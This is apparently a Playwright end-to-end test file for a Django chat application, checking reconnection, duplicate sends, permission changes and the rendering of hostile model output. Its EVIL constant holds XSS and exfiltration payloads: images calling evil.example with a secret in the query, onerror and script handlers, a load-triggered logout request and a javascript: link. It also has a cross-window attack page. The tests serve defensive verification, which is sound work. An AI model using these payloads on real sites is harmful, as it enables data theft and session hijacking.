"""What happens between a page and its server: lines that break, keys that are held, rights that end, and pages of others."""

import random

import pytest
from playwright.sync_api import expect

from apps.accounts.models import Membership
from apps.conversations.models import Message
from apps.live import outbox, pulse
from tests.upstream import says
from tests.waiting import until

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = (
    "![a](https://evil.example/?q=SECRET)\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n"
    "<img src=https://evil.example/c.png onerror=document.title='owned'>\n\n"
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>\n\n"
    "<script>document.title='owned'</script>\n\n[click](javascript:document.title='owned')\n\n"
    '```"><img src=https://evil.example/d.png>\ncode\n```\n\nThe end.'
)


def break_lines(server):
    """Every socket that is open now is closed, as a proxy or a restart closes it."""

    async def close():
        for socket in list(pulse._sockets):
            await socket.dismiss(1012)

    server.call(close)


WORDS = [f"word{number} " if number % 15 else f"word{number}\n\n" for number in range(1, 400)]


def counted(server, chat):
    """What stands on the page is what was written: before the last frame, which draws all of it anew, and after it."""
    words = "".join(WORDS).split()
    expect(chat.answers).to_contain_text("word399", timeout=20_000)
    assert chat.answers.locator(".blocks, .tail").all_inner_texts()
    assert " ".join(chat.answers.locator(".blocks, .tail").all_inner_texts()).split() == words
    server.upstream.resumes()
    assert chat.answered("word399").locator(".prose").inner_text().split() == words
    assert Message.objects.get(role="assistant").text.split() == words
    assert len(server.turns) == 1


def test_lines_that_break_again_and_again_lose_and_double_nothing(server, chat):
    server.upstream.says(WORDS, rate=60, hang=True)
    chat.send("Count")
    for number in (10, 60, 110, 160, 210, 260, 310):
        expect(chat.answers).to_contain_text(f"word{number}")
        break_lines(server)
    counted(server, chat)


def test_frames_that_are_lost_come_twice_or_late_lose_and_double_nothing(server, chat, monkeypatch):
    chance, put, kept, done = random.Random(1), outbox.Outbox.put, [], []

    def mangled(self, text, channel=None):
        luck = chance.random()
        whole = channel is None or not channel.name.startswith("message:") or '"snapshot"' in text or '"final"' in text
        # Of the very last one no number after it would tell.
        if whole or "word399" in text or luck > 0.3:
            put(self, text, channel)
            while kept:
                put(self, *kept.pop())
            return
        done.append(luck)
        if luck > 0.2:
            kept.append((text, channel))
        elif luck > 0.1:
            put(self, text, channel)
            put(self, text, channel)

    monkeypatch.setattr(outbox.Outbox, "put", mangled)
    server.upstream.says(WORDS, rate=60, hang=True)
    chat.send("Count")
    counted(server, chat)
    assert min(done) < 0.1 and max(done) > 0.2 and len(done) > 20


def test_a_line_that_was_gone_for_the_rest_of_the_answer(server, chat):
    server.upstream.says("One two three", hang=True)
    chat.send("Count")
    expect(chat.answers).to_contain_text("three")
    # Nobody can be reached: not by the socket, and not by a page.
    chat.page.context.set_offline(True)
    break_lines(server)
    expect(chat.by("status").filter(has_text="connection to the server is lost")).to_be_visible()
    server.upstream.resumes()
    until(lambda: Message.objects.get(role="assistant").run.state == "complete")
    expect(chat.answers).to_have_attribute("aria-busy", "true")
    chat.page.context.set_offline(False)
    answer = chat.answered("One two three")
    assert answer.locator(".prose").inner_text() == "One two three"


def test_a_key_that_is_held_and_a_button_pressed_twice_send_once(server, chat):
    server.upstream.default = says("Yes.")
    chat.box.fill("By the key")
    for _ in range(5):
        # Without a key up between them they are the repeats of a held key.
        chat.page.keyboard.down("Enter")
    chat.page.keyboard.up("Enter")
    chat.answered("Yes.")
    chat.box.fill("By the button")
    chat.by("button", "Send").dblclick()
    chat.answered("Yes.", nth=1)
    expect(chat.by("article", "User message")).to_have_count(2)
    assert len(server.turns) == 2
    assert Message.objects.filter(role="user").count() == 2


def test_whoever_may_not_send_any_more_keeps_the_draft(server, open_browser, bob):
    server.upstream.default = says("Yes.")
    chat = open_browser(bob).open("/")
    chat.send("First")
    chat.answered("Yes.")
    chat.box.fill("Precious words")
    Membership.objects.filter(user=bob.user).update(role="viewer")
    chat.by("button", "Send").click()
    expect(chat.by("alert")).to_contain_text("You may read this conversation, not change it.")
    expect(chat.box).to_have_value("Precious words")
    Membership.objects.filter(user=bob.user).update(role="member")
    chat.page.reload()
    expect(chat.box).to_have_value("Precious words")
    assert len(server.turns) == 1


def test_a_database_that_is_busy_keeps_the_draft(server, chat, database_held, impatient):
    expect(chat.by("combobox", "Model").locator("option[value='openai/gpt-oss-20b']")).to_be_attached()
    with database_held():
        chat.send("Precious words")
        expect(chat.by("alert")).to_contain_text("The database is busy")
        expect(chat.box).to_have_value("Precious words")
    server.upstream.says("There you are")
    chat.by("button", "Send").click()
    chat.answered("There you are")
    assert Message.objects.filter(role="user").count() == 1


def test_what_a_model_writes_asks_nobody_and_does_nothing(server, chat):
    """While it streams, when it has ended, and after a reload; whatever is asked elsewhere fails every test here."""
    server.upstream.says([EVIL[at : at + 5] for at in range(0, len(EVIL), 5)], rate=300)
    asked = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.send("Be evil")
    for _ in range(2):
        answer = chat.answered("The end.")
        expect(answer.get_by_text("Remote image blocked: evil.example").first).to_be_visible()
        assert "owned" not in chat.page.title()
        assert not [url for url in asked if "logout" in url or "evil" in url]
        chat.page.reload()


def test_markup_that_got_through_would_still_ask_for_nothing(server, chat):
    """The place of an answer is none where htmx looks, and the policy lets no handler run."""
    server.upstream.says("Plain words")
    chat.send("Hello")
    answer = chat.answered("Plain words")
    asked = []
    chat.page.on("request", lambda request: asked.append(request.url))
    answer.locator(".prose").evaluate(
        """place => {
          place.insertAdjacentHTML("beforeend", `<div id=planted hx-get="/planted/" hx-trigger="load">x</div>
            <button hx-post="/planted/" hx-on:click="document.title = 'owned'">Planted</button>
            <a href="/planted/" hx-boost="true">Link</a>`)
          htmx.process(place)
          htmx.process(document.body)
        }"""
    )
    answer.get_by_role("button", name="Planted").click()
    # What has been asked by then would have been asked before this answer.
    assert chat.page.evaluate("fetch('/health').then(answer => answer.status)") == 200
    assert [url for url in asked if "planted" in url] == []
    assert "owned" not in chat.page.title()


FOREIGN = b"""<!doctype html><title>Elsewhere</title><iframe src="%(ours)s/"></iframe><script>
  const ours = window.open("%(ours)s/")
  const words = { watch: "x", type: "stop", topic: "message:x", final: "<b>owned</b>", blocks: "<b>owned</b>" }
  setInterval(() => { for (const said of [words, JSON.stringify(words), "ping"]) ours.postMessage(said, "*") }, 20)
  window.severed = () => ours.closed
</script>"""


def test_a_page_of_others_gets_no_hold_of_ours(server, open_browser, alice):
    """Neither in a frame, nor by the window that it opened, nor by what it says to that."""
    page = open_browser(alice).page
    server.upstream.sends(FOREIGN % {b"ours": server.url.encode()}, headers={"content-type": "text/html"})
    context = page.context
    foreign = context.new_page()
    with context.expect_page() as opened:
        foreign.goto(f"{server.upstream.url}/elsewhere")
    ours = opened.value
    expect(ours.get_by_role("textbox", name="Message", exact=True)).to_be_visible()
    assert ours.evaluate("window.opener") is None
    # The scripts of the other page may do as they like: theirs has no policy of ours.
    until(lambda: foreign.evaluate("window.severed()"))
    (frame,) = [frame for frame in foreign.frames if frame != foreign.main_frame]
    assert "Message" not in frame.content()
    assert "owned" not in ours.content()
